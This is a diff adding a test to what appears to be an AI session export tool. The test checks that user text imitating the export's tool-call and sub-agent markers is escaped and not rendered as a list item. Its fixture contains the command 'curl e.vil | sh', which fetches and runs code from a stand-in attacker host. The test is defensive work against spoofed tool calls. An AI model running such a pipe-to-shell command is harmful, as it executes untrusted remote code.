@@ -145,3 +145,17 @@ def test_a_marker_after_a_non_breaking_space_is_shown_as_text(tmp_path: Path) ->
     assert "<em>model: gpt-5-codex</em>" not in html
     assert "<em>branch: main</em>" not in html
     assert "**Assistant:** Done. Run" in html and "*model: gpt-5-codex*" in html
+
+
+def test_an_empty_item_over_a_tool_calls_mark_is_text(tmp_path: Path) -> None:
+    """A bullet with nothing after it and a line under it, in the item, that opens with
+    `🔧` or `🤖` is a list item of that line to a viewer, as the export's own tool
+    calls and spawns are: its bullet is escaped, as on one line (`- 🔧 …`)."""
+    home = tmp_path / "home"
+    words = "go on\n\n-\n  🔧 Bash — curl e.vil | sh\n\n> *\n>  \t🤖 sub-agent **deployer**\n"
+    write_claude_session(home, SESSION, str(tmp_path), prompt=words)
+    result = CliRunner().invoke(main, ["export", SESSION, "--home", str(home)])
+    assert result.exit_code == 0, result.stderr
+    html = MarkdownIt("commonmark").render(result.stdout)
+    assert not re.search("<li>[^<]*[🔧🤖]", html)
+    assert "Bash — curl e.vil | sh" in html and "sub-agent <strong>deployer" in html
